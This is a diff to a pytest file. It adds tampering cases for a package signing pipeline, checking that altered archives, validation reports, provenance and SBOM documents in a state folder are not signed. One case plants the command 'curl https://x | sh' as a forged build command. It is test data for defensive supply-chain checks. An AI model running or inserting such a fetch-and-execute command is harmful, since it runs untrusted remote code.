@@ -2,12 +2,14 @@
 
 from __future__ import annotations
 
+import gzip
 import json
 import os
 import shutil
 from collections.abc import Callable, Mapping
 from dataclasses import dataclass, replace
 from pathlib import Path
+from typing import Any
 
 import numpy as np
 import pytest
@@ -20,11 +22,16 @@ from tfaot_pkg.keys import sha256_file
 from tfaot_pkg.nightly.recheck import Recheck
 from tfaot_pkg.nightly.state import State
 from tfaot_pkg.nightly.types import Decision
+from tfaot_pkg.package.listing import Tree, scan_tree
+from tfaot_pkg.package.tree import document_bytes
 from tfaot_pkg.process import run
+from tfaot_pkg.provenance.statement import TREE_DIGEST
 from tfaot_pkg.registry.archive import pack, unpack
+from tfaot_pkg.registry.entry import BlobRef
 from tfaot_pkg.registry.folder import FolderRegistry
+from tfaot_pkg.registry.reader import FILES
 from tfaot_pkg.settings import Folders
-from tfaot_pkg.static.layout import PREFIX
+from tfaot_pkg.static.layout import LATENCY, PREFIX
 from tfaot_pkg.toolchain.worker import WorkerPool
 
 pytestmark = [pytest.mark.slow, pytest.mark.needs_tensorflow, pytest.mark.timeout(600)]
@@ -85,8 +92,24 @@ def stored(made: Stored, tmp_path: Path) -> Stored:
     return replace(made, state=State(root=tmp_path / "state"))
 
 
-def test_what_nobody_touched_is_published(stored: Stored) -> None:
-    stored.publish()
+def test_what_nobody_touched_is_published_as_the_publisher_writes_it(stored: Stored, tmp_path: Path) -> None:
+    """The archive of other bytes with the same files, and times that cannot be, leave no trace."""
+    archive, false = stored.folder / "blobs" / PREFIX, stored.folder / "blobs" / LATENCY
+    good, plain = archive.read_bytes(), gzip.decompress(archive.read_bytes())
+    # Another encoding of the same content, under the same header.
+    archive.write_bytes(good[:10] + gzip.compress(plain, 1)[10:])
+    assert archive.read_bytes() != good
+    times = json.loads(false.read_text())
+    times["measurements"] = [{**one, "nanoseconds": 1e-6} for one in times["measurements"]]
+    false.write_text(json.dumps({**times, "more": "x"}))
+    for role in (PREFIX, LATENCY):
+        refreshed(stored, role)
+    with Recheck(folders=stored.folders)(stored.decision, stored.state.results.release(stored.decision.key)) as own:
+        blobs = {role: blob if isinstance(blob, bytes) else blob.read_bytes() for role, blob in own.blobs.items()}
+    assert {role: BlobRef.of(data) for role, data in blobs.items()} == own.entry.blobs
+    assert blobs[PREFIX] == good
+    measured = json.loads(blobs[LATENCY])
+    assert measured.keys() == times.keys() and all(one["nanoseconds"] > 1 for one in measured["measurements"])
 
 
 def repacked(stored: Stored, scratch: Path, change: Callable[[Path], None]) -> None:
@@ -140,7 +163,9 @@ def vouch(root: Path) -> None:
     for subject in document["subject"]:
         if (root / subject["name"]).is_file():
             subject["digest"]["sha256"] = sha256_file(root / subject["name"])
-    place.write_text(json.dumps(document))
+    others = [member for member in scan_tree(root).members if root / member.path != place]
+    document["subject"][0]["digest"] = {TREE_DIGEST: Tree(members=tuple(others)).digest}
+    place.write_bytes(document_bytes(document))
 
 
 def damaged_archive(stored: Stored, scratch: Path) -> None:
@@ -189,7 +214,7 @@ def another_text(path: str, text: str) -> Callable[[Stored, Path], None]:
             for subject in document["subject"]:
                 if subject["name"] == relative:
                     subject["digest"]["sha256"] = sha256_file(place)
-            provenance.write_text(json.dumps(document))
+            provenance.write_bytes(document_bytes(document))
 
         repacked(stored, scratch, append)
         shutil.copy(next((scratch / "tree").glob("share/*/provenance.json")), stored.folder / "blobs" / "provenance")
@@ -209,11 +234,42 @@ def claimed_hashes(stored: Stored, scratch: Path) -> None:
             reason="", groups=[{"targets": ["x86-64-v3"], "run": ["x86-64-v3"], "batches": batches}]
         )
         (inner,) = root.glob("share/*/validation.json")
-        inner.write_text(json.dumps(document))
+        inner.write_bytes(document_bytes(document))
 
     tampered(stored, scratch, claim)
     shutil.copy(next((scratch / "tree").glob("share/*/validation.json")), place)
     refreshed(stored, "validation")
+
+
+def retold(role: str, change: Callable[[Any], object]) -> Callable[[Stored, Path], None]:
+    """Change the values of a document, in the package and beside it; it is written as builds write it."""
+    return rewritten(role, lambda data: _changed(json.loads(data), change))
+
+
+def _changed(document: Any, change: Callable[[Any], object]) -> bytes:
+    change(document)
+    return document_bytes(document)
+
+
+def rewritten(role: str, change: Callable[[bytes], bytes]) -> Callable[[Stored, Path], None]:
+    """Change a document, in the package and beside it."""
+
+    def do(stored: Stored, scratch: Path) -> None:
+        def inside(root: Path) -> None:
+            (inner,) = root.glob(f"share/*/{FILES[role]}")
+            inner.write_bytes(change(inner.read_bytes()))
+
+        (repacked if role == "provenance" else tampered)(stored, scratch, inside)
+        shutil.copy(next((scratch / "tree").glob(f"share/*/{FILES[role]}")), stored.folder / "blobs" / role)
+        refreshed(stored, role)
+
+    return do
+
+
+def appended_archive(stored: Stored, scratch: Path) -> None:
+    with (stored.folder / "blobs" / PREFIX).open("ab") as file:
+        file.write(os.urandom(5 << 20))
+    refreshed(stored, PREFIX)
 
 
 def other_rows(stored: Stored, scratch: Path) -> None:
@@ -226,6 +282,20 @@ def pipe(stored: Stored, scratch: Path) -> None:
     os.mkfifo(place)
 
 
+LIE = {
+    "target": "x86-64-v3", "batch_size": 1, "output": "y", "kind": "text", "elements": 1, "max_absolute": 0.0,
+    "is_fault": False, "rule": "", "operations": [], "atol": None, "spread": None,
+}  # fmt: skip
+
+
+def INTERNAL(provenance: Any) -> Any:  # noqa: N802
+    return provenance["predicate"]["buildDefinition"]["internalParameters"]
+
+
+def RUN(provenance: Any) -> Any:  # noqa: N802
+    return provenance["predicate"]["runDetails"]
+
+
 CASES: dict[str, Callable[[Stored, Path], None]] = {
     "archive": damaged_archive,
     "a file more": more_in_the_archive,
@@ -235,13 +305,25 @@ CASES: dict[str, Callable[[Stored, Path], None]] = {
     "header": another_text("include/tfaot-model-*/model.h", "// more\n"),
     "CMake": another_text("lib/cmake/*/*Config.cmake", "message(x)\n"),
     "hashes": claimed_hashes,
+    "bytes after the archive": appended_archive,
+    "blanks in the report": rewritten("validation", lambda data: data.replace(b": ", b":  ", 1)),
+    "a field more in the report": retold("validation", lambda report: report.update(more="x")),
+    "a tolerance in the report": retold("validation", lambda report: report.update(rtol=1.0)),
+    "a warning in the report": retold("validation", lambda report: report["warnings"].append("visit https://x")),
+    "a kind of differences": retold("validation", lambda report: report["classes"][0]["differences"].append(LIE)),
+    "an emulator in the report": retold("validation", lambda report: report.update(targets={"x86-64-v3": 200 * "x"})),
+    "another command": retold("provenance", lambda found: INTERNAL(found).update(command="curl https://x | sh")),
+    "a field more in the provenance": retold("provenance", lambda found: found.update(more="x")),
+    "another builder": retold("provenance", lambda found: RUN(found).update(builder={"id": "me", "version": {}})),
+    "blanks in the provenance": rewritten("provenance", lambda data: data + b" "),
+    "blanks in the sbom": rewritten("sbom", lambda data: data.replace(b": ", b":  ", 1)),
     "rows": other_rows,
     "pipe": pipe,
     "model": another_model,
 }
 
 
-@pytest.mark.sweep("archive", "library", "line")
+@pytest.mark.sweep("archive", "library", "line", "bytes after the archive", "another command")
 @pytest.mark.parametrize("name", CASES)
 def test_what_was_changed_in_the_state_folder_is_not_signed(stored: Stored, tmp_path: Path, name: str) -> None:
     CASES[name](stored, tmp_path)
